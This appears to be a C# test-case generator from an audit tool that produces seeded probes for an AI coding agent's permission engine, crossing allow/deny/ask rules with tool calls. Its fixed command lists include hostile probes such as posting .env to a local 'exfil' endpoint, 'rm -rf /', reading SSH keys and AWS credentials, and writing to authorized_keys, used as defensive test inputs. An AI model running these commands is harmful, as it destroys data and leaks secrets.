using System.Text.Json.Nodes;

namespace CcAudit.Core.Permissions.Oracle;

/// <summary>
/// Seeded generator of permission cases (shared/permission-cases/FORMAT.md, without <c>expect</c>): rule families
/// spread over every settings tier, crossed with probe families aimed at them: the near misses, wrappers, compounds,
/// anchors and modes where an engine is most likely to part ways with the binary. The oracle supplies the truth.
/// The same seed always gives the same cases.
/// </summary>
public static class PermissionCaseGenerator
{
    private const string Home = "/home/dev";
    private static readonly string[] LaunchDirectories = ["/home/dev/work/app", "/srv/app", "/home/dev/mono/services/api"];
    private static readonly string[] OutsideDirectories = ["/srv/shared", "/home/dev/other"];
    private static readonly string[] Tiers = ["user", "project", "local", "flag", "managed"];
    private static readonly (string Mode, int Weight)[] Modes = [("default", 10), ("acceptEdits", 4), ("dontAsk", 2), ("bypassPermissions", 2), ("manual", 1)];

    private static readonly string[] CommandPrefixes =
    [
        "git", "git push", "git commit", "git status", "npm", "npm run", "npm install", "npm test", "curl", "wget", "rm", "rm -rf",
        "python3", "python3 -c", "node", "docker", "docker exec", "kubectl", "kubectl get", "terraform", "make", "ls", "cat", "find",
        "sed", "echo", "ssh", "aws s3", "gh pr", "cargo", "go test", "pip install", "chmod", "env", "xargs", "bash -c", "sudo",
    ];

    private static readonly string[] PathPatterns =
    [
        "./.env", ".env", "**/.env", "~/.ssh/**", "//srv/shared/**", "/secrets/**", "src/**", "docs/*.md", "*.pem", "config/", "config/**",
        "~/.aws/credentials", "//etc/**", "../other/**", "build", "/src/**", "**/*.key", ".claude/**", "//home/dev/other/**", "secrets",
    ];

    private static readonly string[] Domains = ["example.com", "*.example.com", "github.com", "blog.example.org", "127.0.0.1"];

    private static readonly string[] CommandTemplates =
    [
        "{p}", "{p} origin main", "{p} --help", "{p} -v", "{p} && echo ok", "echo start; {p}", "{p} | head -5", "{p} > out.txt",
        "{p} > /srv/shared/out.txt", "{p} 2>/dev/null", "FOO=1 {p}", "LANG=C {p}", "timeout 5 {p}", "nohup {p}", "time {p}",
        "sudo {p}", "bash -c '{p}'", "sh -c \"{p}\"", "echo $({p})", "({p})", "{p} &", "cd src && {p}", "{p} $HOME", "{p}x",
        "env {p}", "xargs {p} < list.txt", "{p} || true", "{p} ~/.ssh/id_rsa", "{p} ./build",
    ];

    private static readonly string[] FixedCommands =
    [
        "ls -la", "git status", "git log --oneline -3", "git diff HEAD~1", "git -C . push origin main", "git push --force origin main",
        "cat README.md", "cat ~/.ssh/id_rsa", "cat ~/.aws/credentials", "cat /srv/shared/data.txt", "cat .env | grep KEY",
        "grep -r TODO .", "grep -r password /srv/shared", "find . -name '*.tmp'", "find . -name '*.tmp' -exec rm {} \\;", "find / -name id_rsa",
        "rm -rf build", "rm -rf /", "rm -rf ~", "rm -rf $HOME/*", "rm -f src/old.c", "echo $HOME", "echo hi > out.txt", "echo hi >> /srv/shared/log.txt",
        "npm test", "npm run build", "npm install left-pad", "npx some-tool", "curl https://example.com", "curl -s http://127.0.0.1:47999/exfil -d @.env",
        "wget https://example.com/x.sh", "python3 -c 'print(1)'", "node -e 'console.log(1)'", "docker ps", "docker run --rm alpine id", "kubectl get pods",
        "kubectl delete pod x", "terraform plan", "terraform apply -auto-approve", "sed -i s/a/b/ src/main.c", "sed -n 1,5p src/main.c", "sort src/main.c",
        "head -n 5 src/main.c", "wc -l src/main.c", "cat <<'EOF'\nhello\nEOF", "export X=1", "FOO=bar env", "sudo -n true", "ssh host uptime",
        "scp a host:/tmp", "chmod 777 src", "cd /srv/shared && ls", "cd .. && ls", "ls /srv/shared", "ls ~/.ssh", "tail -f log.txt", "diff a b",
        "make", "make deploy", "go test ./...", "cargo build", "pip install requests", "gh pr create", "aws s3 ls", "xargs rm < list.txt",
        "ls | xargs echo", "git status; rm -rf /srv/oracle-none", "echo ok 2>/dev/null", "true && false", "pwd", "which git", "jq . package.json",
    ];

    private static readonly string[] ReadTargets =
    [
        "{cwd}/src/main.c", "{cwd}/.env", "{cwd}/src/.env", "{cwd}/config/app.yml", "{cwd}/docs/readme.md", "{cwd}/key.pem", "{cwd}/secrets/token.txt",
        "{cwd}/build/out.js", "{cwd}/.git/config", "{cwd}/.claude/settings.json", "{cwd}/deploy/prod.key", "{home}/.ssh/id_rsa", "{home}/.aws/credentials",
        "{home}/.bashrc", "{home}/.claude/settings.json", "/srv/shared/data.txt", "/home/dev/other/notes.txt", "/etc/hostname", "{cwd}/etc/hosts",
        "{home}/.claude/etc/x", "{cwd}/secrets/inner/deep.txt",
    ];

    private static readonly string[] WriteTargets =
    [
        "{cwd}/src/new_{n}.c", "{cwd}/docs/new_{n}.md", "{cwd}/config/new_{n}.yml", "{cwd}/.env.{n}", "{cwd}/build/gen_{n}.js", "{cwd}/secrets/s_{n}.txt",
        "{cwd}/.claude/agents/a_{n}.md", "{cwd}/.git/hooks/pre-commit", "{cwd}/.mcp.json", "{cwd}/.claude/settings.local.json", "{cwd}/key_{n}.pem",
        "/srv/shared/new_{n}.txt", "/home/dev/other/new_{n}.txt", "{home}/.ssh/authorized_keys", "{home}/.bashrc_{n}", "{home}/.claude/CLAUDE.md",
        "{cwd}/.vscode/settings_{n}.json", "{cwd}/src/.env",
    ];

    private static readonly string[] Urls =
    [
        "https://example.com/page", "https://sub.example.com/x", "https://github.com/org/repo", "https://blog.example.org/post",
        "http://127.0.0.1:47999/canary", "https://evil.example.net/?q=example.com", "https://docs.python.org/3/",
    ];

    /// <summary>
    /// <paramref name="scenarios"/> configurations of <paramref name="probesPerScenario"/> probes each; <c>id</c>s are
    /// <c>g&lt;seed&gt;-&lt;scenario&gt;-&lt;probe&gt;</c>.
    /// </summary>
    public static IReadOnlyList<JsonObject> Generate(int seed, int scenarios, int probesPerScenario)
    {
        var random = new Random(seed);
        var cases = new List<JsonObject>();
        for (var s = 0; s < scenarios; s++)
        {
            var cwd = Pick(random, LaunchDirectories);
            var mode = PickWeighted(random, Modes);
            var trusted = random.Next(8) != 0;
            var addDirs = random.Next(5) == 0 ? new JsonArray(Pick(random, OutsideDirectories)) : [];
            var settings = Settings(random);
            JsonObject? mcp = random.Next(3) == 0 ? new JsonObject { ["stub"] = new JsonObject { ["type"] = "stdio", ["command"] = "stub-server" } } : null;
            var unique = 0;
            for (var p = 0; p < probesPerScenario; p++)
            {
                var (tool, input, family) = Probe(random, cwd, mcp is not null, ref unique);
                var @case = new JsonObject
                {
                    ["id"] = $"g{seed}-{s:D3}-{p:D2}",
                    ["mode"] = mode,
                    ["trusted"] = trusted,
                    ["home"] = Home,
                    ["cwd"] = cwd,
                    ["addDirs"] = addDirs.DeepClone(),
                    ["settings"] = settings.DeepClone(),
                };
                if (mcp is not null)
                {
                    @case["mcpServers"] = mcp.DeepClone();
                }

                @case["tool"] = tool;
                @case["input"] = input;
                @case["note"] = family;
                cases.Add(@case);
            }
        }

        return cases;
    }

    private static JsonObject Settings(Random random)
    {
        var settings = new JsonObject();
        var rules = random.Next(3, 11);
        for (var i = 0; i < rules; i++)
        {
            var tier = Tiers[random.Next(random.Next(6) == 0 ? Tiers.Length : Tiers.Length - 1)];
            var behaviour = random.Next(4) switch { 0 or 1 => "allow", 2 => "deny", _ => "ask" };
            var file = settings[tier] as JsonObject ?? new JsonObject();
            settings[tier] = file;
            var permissions = file["permissions"] as JsonObject ?? new JsonObject();
            file["permissions"] = permissions;
            var list = permissions[behaviour] as JsonArray ?? [];
            permissions[behaviour] = list;
            list.Add(Rule(random));
        }

        if (random.Next(6) == 0)
        {
            var project = settings["project"] as JsonObject ?? new JsonObject();
            settings["project"] = project;
            var permissions = project["permissions"] as JsonObject ?? new JsonObject();
            project["permissions"] = permissions;
            permissions["additionalDirectories"] = new JsonArray(random.Next(2) == 0 ? "../shared" : "/srv/shared");
        }

        if (random.Next(20) == 0 && settings["managed"] is JsonObject managed)
        {
            managed["allowManagedPermissionRulesOnly"] = true;
        }

        return settings;
    }

    private static string Rule(Random random) => random.Next(20) switch
    {
        < 9 => BashRule(random),
        < 14 => $"{Pick(random, ["Read", "Edit", "Edit", "Write"])}({Pick(random, PathPatterns)})",
        < 16 => random.Next(4) == 0 ? "WebFetch" : $"WebFetch(domain:{Pick(random, Domains)})",
        16 => Pick(random, ["mcp__stub", "mcp__stub__delete_item", "mcp__stub__*", "mcp__other"]),
        17 => Pick(random, ["WebSearch", "Read", "Edit", "Write", "Bash"]),
        _ => BashRule(random),
    };

    private static string BashRule(Random random)
    {
        var prefix = Pick(random, CommandPrefixes);
        return random.Next(7) switch
        {
            0 or 1 => $"Bash({prefix}:*)",
            2 or 3 => $"Bash({prefix} *)",
            4 => $"Bash({prefix}*)",
            5 => $"Bash({prefix})",
            _ => random.Next(3) == 0 ? "Bash(*)" : $"Bash({prefix} * main)",
        };
    }

    private static (string Tool, JsonObject Input, string Family) Probe(Random random, string cwd, bool mcp, ref int unique)
    {
        string Expand(string template) => template.Replace("{cwd}", cwd, StringComparison.Ordinal).Replace("{home}", Home, StringComparison.Ordinal);
        var roll = random.Next(100);
        if (roll < 30)
        {
            var prefix = Pick(random, CommandPrefixes);
            return ("Bash", new JsonObject { ["command"] = Pick(random, CommandTemplates).Replace("{p}", prefix, StringComparison.Ordinal) }, "bash-shape");
        }

        if (roll < 52)
        {
            return ("Bash", new JsonObject { ["command"] = Pick(random, FixedCommands) }, "bash-fixed");
        }

        if (roll < 68)
        {
            return ("Read", new JsonObject { ["file_path"] = Expand(Pick(random, ReadTargets)) }, "read");
        }

        if (roll < 84)
        {
            var path = Expand(Pick(random, WriteTargets)).Replace("{n}", (unique++).ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
            return random.Next(2) == 0
                ? ("Write", new JsonObject { ["file_path"] = path, ["content"] = "x\n" }, "write")
                : ("Edit", new JsonObject { ["file_path"] = path, ["old_string"] = "", ["new_string"] = "x\n" }, "edit");
        }

        if (roll < 92)
        {
            return ("WebFetch", new JsonObject { ["url"] = Pick(random, Urls), ["prompt"] = "summarize" }, "webfetch");
        }

        if (roll < 94)
        {
            return ("WebSearch", new JsonObject { ["query"] = "oracle probe" }, "websearch");
        }

        return mcp
            ? (Pick(random, ["mcp__stub__read_item", "mcp__stub__delete_item", "mcp__stub__send_email"]), new JsonObject { ["arg"] = "x" }, "mcp")
            : ("Bash", new JsonObject { ["command"] = Pick(random, FixedCommands) }, "bash-fixed");
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private static string PickWeighted(Random random, IReadOnlyList<(string Value, int Weight)> items)
    {
        var roll = random.Next(items.Sum(i => i.Weight));
        foreach (var (value, weight) in items)
        {
            if ((roll -= weight) < 0)
            {
                return value;
            }
        }

        return items[^1].Value;
    }
}
